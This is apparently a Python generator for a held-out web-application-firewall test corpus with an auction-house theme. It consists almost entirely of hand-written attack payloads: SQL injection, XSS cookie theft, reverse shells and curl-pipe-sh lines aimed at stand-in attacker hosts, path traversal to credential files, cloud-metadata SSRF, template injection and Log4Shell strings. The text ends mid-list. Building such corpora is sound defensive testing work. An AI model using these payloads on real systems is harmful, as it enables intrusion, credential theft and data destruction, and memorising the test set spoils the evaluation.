#!/usr/bin/env python3
"""Attack values for the auctions held-out WAF corpus (auction house / collectibles).

Standard library only. Deterministic: random.Random(10502). Writes attacks.jsonl next to
this file. Every payload in the literal tables was written by hand. The only computed
values are (a) percent-encodings of a few hand-written literals and (b) joins of
hand-written theme prefixes / hosts to hand-written payloads / paths.
"""
import json
import os
import random
import urllib.parse

SEED = 10502
PREFIX = "haa5"

SQLI = [
    ("note-union-select", "Lot 214' UNION SELECT username,password_hash FROM users-- -"),
    ("grade-union-all-null", "1909-S VDB' UNION ALL SELECT NULL,version(),NULL#"),
    ("plain-boolean", "' OR '1'='1"),
    ("number-boolean", "1250 OR 1=1"),
    ("title-mysql-sleep", "Penny Black' AND SLEEP(5)-- "),
    ("grade-pg-stacked-sleep", "MS65'; SELECT pg_sleep(10)--"),
    ("bid-mssql-waitfor", "1200; WAITFOR DELAY '0:0:5'--"),
    ("note-oracle-dbms-pipe", "ex-Hirsch' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    ("search-sqlite-master", "Meissen' UNION SELECT name,sql FROM sqlite_master WHERE type='table'--"),
    ("note-mysql-extractvalue", "Reserve not met' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"),
    ("catno-mysql-updatexml", "A/2024/0117' AND updatexml(1,concat(0x7e,database()),1)#"),
    ("note-mssql-convert-error", "Scott C3a' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("note-pg-cast-error", "Heriz rug' AND 1=CAST((SELECT current_user) AS int)--"),
    ("note-stacked-drop", "Lot 45 passed'; DROP TABLE bids;--"),
    ("qa-stacked-update", "is the clasp original?'; UPDATE users SET role='admin' WHERE email='x@attacker.example'--"),
    ("sort-case-div-zero", "estimate_low,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("sort-mysql-if-sleep", "lot_no ASC, IF(1=1,SLEEP(3),0)"),
    ("note-comment-as-space", "Roman denarii'/**/UNION/**/SELECT/**/card_number,cvv/**/FROM/**/payments#"),
    ("title-mysql-versioned-comment", "Leica M3'/*!50000UNION*//*!50000SELECT*/1,2,3-- -"),
    ("grade-case-mixing", "NGC AU58' uNiOn SeLeCt 1,@@version,3-- -"),
    ("plain-mssql-xp-cmdshell", "'; EXEC xp_cmdshell 'whoami'--"),
    ("note-mysql-into-outfile", "Steiff bear' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("note-pg-copy-program", "Lalique vase'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--"),
    ("note-oracle-union-dba", "Hiroshige' UNION SELECT username,password FROM dba_users--"),
    ("note-oracle-utl-http", "Tokaido' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("note-mssql-xp-dirtree", "Cartier Tank'; EXEC master..xp_dirtree '\\\\attacker.example\\x'--"),
    ("search-blind-substring", "Morgan dollar' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'-- "),
    ("search-oracle-blind-ascii", "Boba Fett' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--"),
    ("plain-having", "' HAVING 1=1--"),
    ("note-group-by-having", "Dinky Toys' GROUP BY lots.id HAVING 1=1--"),
    ("lotid-number-union", "214 AND 1=0 UNION SELECT 1,email,password FROM users"),
    ("note-backslash-escape", "O\\' OR 1=1-- "),
    ("note-mysql-hex-literal", "Lionel 700E' UNION SELECT 0x61646d696e,2-- -"),
    ("login-mssql-char", "' OR username=CHAR(97,100,109,105,110)-- "),
    ("plain-admin-comment", "admin'--"),
    ("seller-limit-offset", "seller' OR 1=1 LIMIT 1 OFFSET 0#"),
    ("lotid-order-by-probe", "1' ORDER BY 10-- -"),
    ("note-mysql-floor-rand", "Tiffany' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("search-paren-breakout", "Charizard') OR ('1'='1"),
    ("search-dquote-paren", "Birkin\") OR (\"a\"=\"a"),
    ("note-pg-string-agg", "Eames'||(SELECT string_agg(usename,',') FROM pg_user)||'"),
    ("note-mssql-oob-fileexist", "Kenner';DECLARE @q varchar(99);SET @q='\\\\attacker.example\\'+(SELECT TOP 1 password FROM users);EXEC master..xp_fileexist @q--"),
    ("note-mysql-load-file", "Lot 9' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("note-mysql-benchmark", "Sleep-Eze tin' OR BENCHMARK(5000000,MD5('x'))#"),
    ("note-info-schema-columns", "Macallan 18' UNION SELECT table_name,column_name FROM information_schema.columns-- -"),
    ("lotid-pg-stacked", "1;SELECT pg_sleep(5)"),
    ("plain-negative-union", "-1 UNION SELECT 1,2,3"),
    ("note-oracle-case-error", "Katana' AND (SELECT CASE WHEN 1=1 THEN TO_CHAR(1/0) ELSE 'a' END FROM dual)='a'--"),
    ("grade-no-space-like", "VF30'OR'x'LIKE'x"),
    ("plain-paren-no-space", "'OR(1)=(1)#"),
    ("search-like-wildcard", "%' AND 1=1 AND '%'='"),
    ("note-mssql-concat-db", "Lot 12'+(SELECT TOP 1 name FROM sys.databases)+'"),
    ("note-mysql-gtid-subset", "Heriz' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)-- -"),
    ("note-pg-copy-from-file", "OBE medal';CREATE TABLE t(x text);COPY t FROM '/etc/passwd';--"),
    ("note-newline-whitespace", "Humidor'\nUNION\nSELECT\n1,password\nFROM\nusers#"),
    ("note-tab-whitespace", "Lot\t88'\tOR\t1=1--\t"),
    ("sort-stacked-drop", "lot_no DESC; DROP TABLE lots"),
    ("search-gbk-multibyte", "%bf%27 OR 1=1-- "),
    ("note-unicode-escape", "\\u0027 OR 1=1--"),
    ("note-fullwidth-nfkc", "Lot 7\uff07 OR 1=1--"),
    ("bid-number-subquery", "450 AND (SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')=1"),
    ("reserve-number-mysql-sleep", "800-SLEEP(5)"),
    ("catno-pg-boolean-chr", "SG-1' AND 1=(SELECT 1 WHERE CHR(65)='A')--"),
    ("note-sqlite-randomblob", "Britannia' AND 1=randomblob(500000000)--"),
    ("note-mysql-hash-comment", "Union Jack flag' OR 1=1#"),
    ("note-double-dash-nospace", "PSA 10' OR 2>1--"),
    ("bidder-insert-values", "Pat Smith', 'admin', 'x@attacker.example')-- "),
    ("note-mysql-elt-sleep", "Hamilton Model 22' AND ELT(1,SLEEP(4))-- -"),
    ("note-mssql-union-tables", "Rolex 5513' UNION SELECT name,NULL FROM master..sysdatabases--"),
    ("note-oracle-xmltype-error", "Persian rug' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)--"),
    ("search-pg-dollar-quote", "coin' UNION SELECT $$x$$,passwd FROM pg_shadow--"),
    ("note-mysql-comment-inline", "Lot 3'/*bid*/OR/*x*/1=1/*y*/-- -"),
]
SQLI_ENC = 8

XSS = [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("title-img-onerror", "Lot 88 <img src=x onerror=alert(1)>"),
    ("desc-svg-onload-cookie", "Nice patina! <svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("desc-iframe-javascript", "See video: <iframe src=javascript:alert(1)></iframe>"),
    ("provenance-a-javascript", "<a href=\"javascript:alert(1)\">provenance file</a>"),
    ("desc-body-onload", "<body onload=alert(1)>"),
    ("desc-details-ontoggle", "Condition report <details open ontoggle=alert(1)>"),
    ("desc-video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("qa-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("title-marquee-onstart", "<marquee onstart=alert(1)>SALE</marquee>"),
    ("attr-dquote-breakout-script-src", "Birkin 35\"><script src=//attacker.example/x.js></script>"),
    ("attr-squote-onmouseover", "O' onmouseover='alert(1)"),
    ("attr-dquote-autofocus", "Lot 12\" autofocus onfocus=\"alert(1)"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-tag-breakout", "Edo katana</title><svg/onload=alert(1)>"),
    ("case-mixing-script", "<ScRiPt>alert(1)</sCrIpT>"),
    ("img-backtick-call", "<img src=x oNeRrOr=alert`1`>"),
    ("svg-script-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("href-decimal-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">lot photos</a>"),
    ("href-tab-entity-split", "<a href=\"jav&#x09;ascript:alert(1)\">more images</a>"),
    ("attr-entity-handler", "<img src=x onerror=\"&#97;lert(1)\">"),
    ("img-eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("object-data-base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>"),
    ("mxss-noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("href-javascript-url", "javascript:alert(document.cookie)"),
    ("href-javascript-case", "JaVaScRiPt:alert(1)"),
    ("href-data-html", "data:text/html,<script>alert(1)</script>"),
    ("form-action-javascript", "<form action=javascript:alert(1)><button>Place bid</button></form>"),
    ("meta-refresh-redirect", "<meta http-equiv=refresh content=\"0;url=https://attacker.example/login\">"),
    ("svg-unclosed-comment", "<svg/onload=alert(1)//"),
    ("img-slash-separators", "<img/src/onerror=alert(1)>"),
    ("custom-element-onclick", "<x onclick=alert(1)>click to enlarge lot photo</x>"),
    ("div-fullscreen-mouseover", "<div style=\"position:fixed;left:0;top:0;width:100%;height:100%\" onmouseover=\"alert(1)\">Lot 5</div>"),
    ("a-onpointerenter", "<a onpointerenter=alert(1)>hover for grade</a>"),
    ("img-dynamic-import", "<img src=1 onerror=import('//attacker.example/m.js')>"),
    ("script-cookie-exfil", "Great lot!<script>new Image().src='https://attacker.example/c?'+document.cookie</script>"),
    ("script-csrf-fetch", "<script>fetch('/api/account/email',{method:'POST',credentials:'include',body:'x@attacker.example'})</script>"),
    ("angular-csti-constructor", "Lot 77 {{constructor.constructor('alert(1)')()}}"),
    ("angular-ng-focus", "<input autofocus ng-focus=$event.view.alert(1)>"),
    ("vue2-csti", "{{_c.constructor('alert(1)')()}}"),
    ("svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>view lot</text></a></svg>"),
    ("script-fromcharcode", "<script>alert(String.fromCharCode(88,83,83))</script>"),
    ("img-bracket-concat", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("img-regex-source", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    ("svg-location-exfil", "<svg onload=location='//attacker.example/?c='+document.cookie>"),
    ("js-string-breakout", "Lot 5';alert(1);//"),
    ("inline-script-breakout", "</script><script>alert(1)</script>"),
    ("js-escaped-quote-breakout", "\\';alert(1)//"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("fullwidth-nfkc", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("iis-u-encoding", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("attr-hex-entities", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;\">"),
    ("markdown-javascript-link", "[see all 14 photos](javascript:alert(1))"),
    ("markdown-img-attr-breakout", "![lot 214](https://cdn.example/x.jpg\"onerror=\"alert(1))"),
    ("img-onload-real-src", "<img src=\"https://cdn.auctions.example/lots/214.jpg\" onload=alert(1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)></textarea>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("img-scheme-src", "<img src=x:x onerror=alert(1)>"),
    ("image-tag-alias", "<image src=x onerror=alert(1)>"),
    ("svg-foreignobject-iframe", "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>"),
    ("href-named-entity-tab", "<a href=\"javas&Tab;cript:alert(1)\">catalogue PDF</a>"),
    ("href-colon-entity", "<a href=\"&#x6A;avascript&colon;alert(1)\">bid history</a>"),
    ("style-breakout-img", "</style><img src=x onerror=alert(1)>"),
    ("comment-breakout", "--><img src=x onerror=alert(1)><!--"),
    ("svg-style-breakout-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("qa-setTimeout-string", "<img src=x onerror=setTimeout('al'+'ert(1)')>"),
]
XSS_ENC = 8

CMDI = [
    ("filename-semicolon-id", "Lot 214; id"),
    ("filename-curl-pipe-sh", "lot-214.jpg; curl http://attacker.example/s.sh | sh"),
    ("grade-and-cat-passwd", "PCGS MS65 && cat /etc/passwd"),
    ("plain-dollar-subshell", "$(whoami)"),
    ("plain-backticks", "`id`"),
    ("note-nc-reverse", "x | nc 203.0.113.7 4444 -e /bin/sh"),
    ("filename-or-wget-bash", "scan_001.tif || wget -qO- http://198.51.100.23/a | bash"),
    ("note-bash-dev-tcp", "Lot 9;bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
    ("filename-newline", "report.pdf\nid"),
    ("filename-urlenc-newline", "report.pdf%0aid"),
    ("note-ifs-space", "lot88;cat${IFS}/etc/passwd"),
    ("note-brace-expansion", "lot88;{cat,/etc/passwd}"),
    ("note-quote-insertion", "lot88;c'a't /etc/shadow"),
    ("note-glob-path", "lot88;/???/??t /etc/passwd"),
    ("note-printf-hex", "lot88;$(printf '\\x69\\x64')"),
    ("note-base64-pipe", "lot88;echo aWQ= | base64 -d | sh"),
    ("note-backslash-split", "lot88;/bin/ba\\sh -c id"),
    ("filename-subshell-sleep", "IMG_0042$(sleep 10).jpg"),
    ("note-ifs-sleep", "Lot 4;sleep${IFS}10"),
    ("host-ping-delay", "cdn.auctions.example && ping -c 10 127.0.0.1"),
    ("note-dns-exfil", "Lot 3 & nslookup $(whoami).attacker.example"),
    ("argv-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/lot.sh"),
    ("argv-curl-output", "-o /var/www/html/x.php http://attacker.example/x.txt"),
    ("argv-wget-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("argv-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("argv-ssh-proxycommand", "-oProxyCommand=sh -c 'curl attacker.example|sh' x"),
    ("argv-sendmail-logfile", "seller@auctions.example -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("argv-rsync-e", "-e sh -c 'id>/tmp/o' src"),
    ("argv-zip-tt", "lots.zip -T -TT 'sh -c id #'"),
    ("perl-open-pipe", "id|"),
    ("win-ampersand-whoami", "lot214.jpg & whoami"),
    ("win-pipe-type", "x | type C:\\Windows\\win.ini"),
    ("win-powershell-iex", "x & powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("win-certutil-download", "x & certutil -urlcache -split -f http://203.0.113.5/a.exe %TEMP%\\a.exe"),
    ("win-ping-delay", "Lot 7 & ping -n 10 127.0.0.1"),
    ("win-powershell-enc", "x | powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGEAdAB0AGEAYwBrAGUAcgAuAGUAeABhAG0AcABsAGUALwBwAC4AcABzADEAJwApAA=="),
    ("win-caret-obfuscation", "x & w^h^o^a^m^i"),
    ("win-comspec", "x & %COMSPEC% /c ver"),
    ("powershell-string-breakout", "'; Invoke-WebRequest http://attacker.example -Method Post -Body (Get-Content C:\\secrets.txt); '"),
    ("powershell-subexpression", "Lot $(Get-Content C:\\Windows\\win.ini)"),
    ("dquote-arg-breakout", "Meissen\";id;\""),
    ("squote-arg-breakout", "Meissen';id;'"),
    ("backtick-sleep-inline", "a`sleep 5`b"),
    ("note-python-c", "x; python3 -c 'import os;os.system(\"id\")'"),
    ("note-perl-e", "x; perl -e 'system(\"id\")'"),
    ("note-webshell-drop", "x;echo PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==|base64 -d>/var/www/html/c.php"),
    ("filename-urlenc-and", "x%26%26id"),
    ("filename-urlenc-semicolon", "x%3Bid"),
    ("note-redirect-no-space", "x;cat</etc/passwd"),
    ("note-ifs-herestring", "x;IFS=,;`cat<<<cat,/etc/passwd`"),
    ("note-var-concat", "x;a=i;b=d;$a$b"),
    ("note-ansi-c-quoting", "x;$'\\x69\\x64'"),
    ("note-curl-data-exfil", "x || curl -d @/etc/passwd attacker.example"),
    ("note-crontab-persist", "x;echo '* * * * * root curl attacker.example|sh' >> /etc/crontab"),
    ("note-rm-uploads", "Lot 1;rm -rf /var/www/uploads"),
    ("note-newline-dropper", "x\nwget http://198.51.100.4/b -O /tmp/b;chmod +x /tmp/b;/tmp/b"),
    ("win-bitsadmin", "x & bitsadmin /transfer j http://attacker.example/a.exe C:\\Users\\Public\\a.exe"),
    ("win-mshta", "x & mshta http://attacker.example/a.hta"),
    ("win-rundll32-unc", "x & rundll32 \\\\203.0.113.8\\s\\x.dll,Run"),
    ("win-cmd-quote-split", "x & c\"md\" /c dir C:\\"),
    ("filename-exiftool-pipe", "photo.jpg;exiftool -ver;id"),
    ("imagemagick-label-read", "label:@/etc/passwd"),
    ("note-xargs-sh", "x;echo id|xargs sh -c"),
]
CMDI_ENC = 7

TRAVERSAL_LIT = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("lotdir-dotdot-shadow", "lot214/../../../../etc/shadow"),
    ("image-path-proc-environ", "images/lots/../../../../../proc/self/environ"),
    ("win-backslash-winini", "..\\..\\..\\windows\\win.ini"),
    ("urlenc-slash", "..%2f..%2f..%2fetc%2fpasswd"),
    ("urlenc-dots-and-slash", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("double-urlenc-slash", "..%252f..%252f..%252fetc%252fpasswd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("overlong-utf8-backslash", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("iis-u-backslash", "..%u2216..%u2216windows%u2216win.ini"),
    ("iis-u-dots", "%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/passwd"),
    ("strip-bypass-quad-dot", "....//....//....//etc/passwd"),
    ("strip-bypass-nested", "..././..././..././etc/passwd"),
    ("plain-absolute", "/etc/passwd"),
    ("win-absolute-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute-then-dotdot", "/var/www/app/../../../root/.ssh/id_rsa"),
    ("catalogue-aws-creds", "catalogues/2024/../../../../home/app/.aws/credentials"),
    ("win-webconfig", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("nullbyte-extension", "../../../../../../etc/passwd%00.jpg"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("proc-self-cwd", "/proc/self/cwd/config/database.yml"),
    ("urlenc-backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("urlenc-dots-backslash", "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
    ("double-urlenc-backslash", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("static-prefix-hosts", "/static/../../../../etc/hosts"),
    ("tomcat-path-param", "lots/2024/..;/..;/WEB-INF/web.xml"),
    ("encoded-webinf", "/..%2f..%2f..%2fWEB-INF/web.xml"),
    ("fullwidth-solidus-utf8", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("double-nibble", "..%%32%66..%%32%66..%%32%66etc/passwd"),
    ("dot-segments-padding", "/./././../../../etc/passwd"),
    ("zip-slip-entry", "../../../../var/www/html/shell.php"),
    ("lfi-nginx-log", "../../../../../../var/log/nginx/access.log"),
    ("scan-dir-dotenv", "scans/lot-88/../../../../.env"),
    ("git-config", "../../.git/config"),
    ("win-sam", "../../../../../../windows/system32/config/SAM"),
    ("double-slash", "..//..//..//etc//passwd"),
    ("overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("leading-encoded-dots", "/%2e%2e/%2e%2e/%2e%2e/etc/shadow"),
    ("half-encoded-dot", ".%2e/.%2e/.%2e/etc/passwd"),
    ("photo-dir-settings", "lot-photos/%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2fsettings.py"),
    ("win-unc-admin-share", "\\\\127.0.0.1\\c$\\Windows\\win.ini"),
    ("file-param-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("win-mixed-case-dotdot", "..\\..\\..\\..\\Users\\Administrator\\NTUser.dat"),
]
TRAV_PREFIXES = ["lots/2024/214/images/", "catalogues/spring-sale/", "uploads/condition-reports/",
                 "static/stamps/scans/", "export/invoices/INV-2024-00123/"]
TRAV_TAILS = ["../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
              "..\\..\\..\\..\\..\\windows\\win.ini", "....//....//....//....//etc/shadow",
              "%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/environ"]
TRAV_TPL = 6

SSRF_LIT = [
    ("aws-imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("gcp-metadata-recursive", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("loopback-admin", "http://127.0.0.1:8080/admin"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A"),
    ("hex-ip-loopback", "http://0x7f000001/admin"),
    ("decimal-ip-loopback", "http://2130706433/server-status"),
    ("octal-ip-loopback", "http://017700000001/"),
    ("short-ip-loopback", "http://127.1/internal/bids"),
    ("ipv6-loopback-es", "http://[::1]:9200/_cat/indices"),
    ("ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/admin"),
    ("docker-api-zero", "http://0.0.0.0:2375/containers/json"),
    ("consul-agent", "http://10.0.0.5:8500/v1/agent/self"),
    ("router-rfc1918", "http://192.168.1.1/cgi-bin/luci"),
    ("docker-bridge", "http://172.17.0.1:2375/version"),
    ("k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("userinfo-confusion", "http://cdn.auctions.example@127.0.0.1/admin"),
    ("fragment-confusion", "http://127.0.0.1:8080#@cdn.auctions.example/lot214.jpg"),
    ("dns-rebind-host", "http://127-0-0-1.rebind.attacker.example/admin"),
    ("open-redirect-chain", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("file-scheme-passwd", "file:///etc/passwd"),
    ("file-scheme-windows", "file:///c:/windows/win.ini"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@auctions.example>%0D%0ARCPT%20TO:<v@attacker.example>%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("ftp-internal", "ftp://10.0.0.3/backups/"),
    ("ldap-internal", "ldap://127.0.0.1:389/dc=auctions,dc=internal"),
    ("java-jar-scheme", "jar:http://attacker.example/x.zip!/lot.jpg"),
    ("java-netdoc", "netdoc:///etc/passwd"),
    ("enclosed-alnum", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/admin"),
    ("port-scan-ssh", "http://127.0.0.1:22/"),
    ("ipv6-mapped-imds-hex", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("octal-dotted-imds", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("hex-dotted-imds", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("decimal-imds", "http://2852039166/latest/meta-data/"),
    ("cluster-local-actuator", "http://internal-admin.svc.cluster.local/actuator/env"),
    ("actuator-heapdump", "http://127.0.0.1:8080/actuator/heapdump"),
    ("etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("kubelet-pods", "http://127.0.0.1:10255/pods"),
    ("ipv6-ula", "http://[fd00::1]/admin"),
    ("zero-host", "http://0/"),
    ("padded-octets", "http://127.000.000.001/"),
    ("ecs-task-creds", "http://169.254.170.2/v2/credentials/"),
    ("openstack-metadata", "http://169.254.169.254/openstack/latest/meta_data.json"),
]
SSRF_HOSTS = ["169.254.169.254", "[::ffff:169.254.169.254]", "0xa9fea9fe", "169.254.43518",
              "169.16689662"]
SSRF_PATHS = ["/latest/user-data", "/latest/meta-data/iam/info",
              "/latest/meta-data/public-keys/", "/latest/dynamic/instance-identity/document"]
SSRF_TPL = 5

CODE = [
    ("jinja2-globals-popen", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("jinja2-cycler-os", "Lot 214 {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-request-app", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("jinja2-config-leak", "Estimate {{ config.items() }}"),
    ("jinja2-subclasses-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("jinja2-attr-filter", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("twig-filter-system", "{{['id']|filter('system')}}"),
    ("twig-undefined-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("twig-map-passthru", "Condition: {{['cat /etc/passwd']|map('passthru')|join}}"),
    ("freemarker-execute-assign", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("freemarker-execute-inline", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("velocity-runtime", "#set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("spel-hash-runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}"),
    ("spel-dollar-array", "${T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}"),
    ("ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-struts-memberaccess", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("mako-expression", "${__import__('os').popen('id').read()}"),
    ("mako-block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("django-settings-leak", "Provenance: {{ settings.SECRET_KEY }}"),
    ("erb-backticks", "<%= `id` %>"),
    ("erb-system", "Lot notes <%= system('cat /etc/passwd') %>"),
    ("erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("ruby-interpolation", "#{`id`}"),
    ("handlebars-constructor-chain", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("smarty-system", "{system('id')}"),
    ("smarty2-php-tag", "{php}echo `id`;{/php}"),
    ("smarty-write-file", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("groovy-gstring-execute", "${\"id\".execute().text}"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
    ("log4shell-rmi-title", "Rolex 5513 ${jndi:rmi://203.0.113.4:1099/x}"),
    ("log4shell-lower-lookups", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/q}"),
    ("log4shell-env-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}"),
    ("log4shell-env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/z}"),
    ("log4shell-useragent-note", "Bidder agent: Mozilla/5.0 ${jndi:ldaps://198.51.100.9:636/o}"),
    ("php-eval-phpinfo", "phpinfo();"),
    ("php-eval-system", "1;system('id');//"),
